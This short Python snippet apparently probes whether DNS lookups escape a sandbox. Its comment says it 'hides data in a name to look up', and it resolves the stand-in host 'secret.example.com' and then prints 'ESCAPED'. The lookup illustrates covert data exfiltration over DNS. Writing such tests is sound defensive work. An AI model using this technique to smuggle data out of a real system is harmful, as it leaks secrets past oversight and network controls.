# what: hides data in a name to look up
# rows: 41
# %%
import socket

socket.getaddrinfo("secret.example.com", 80)
print("ESCAPED")
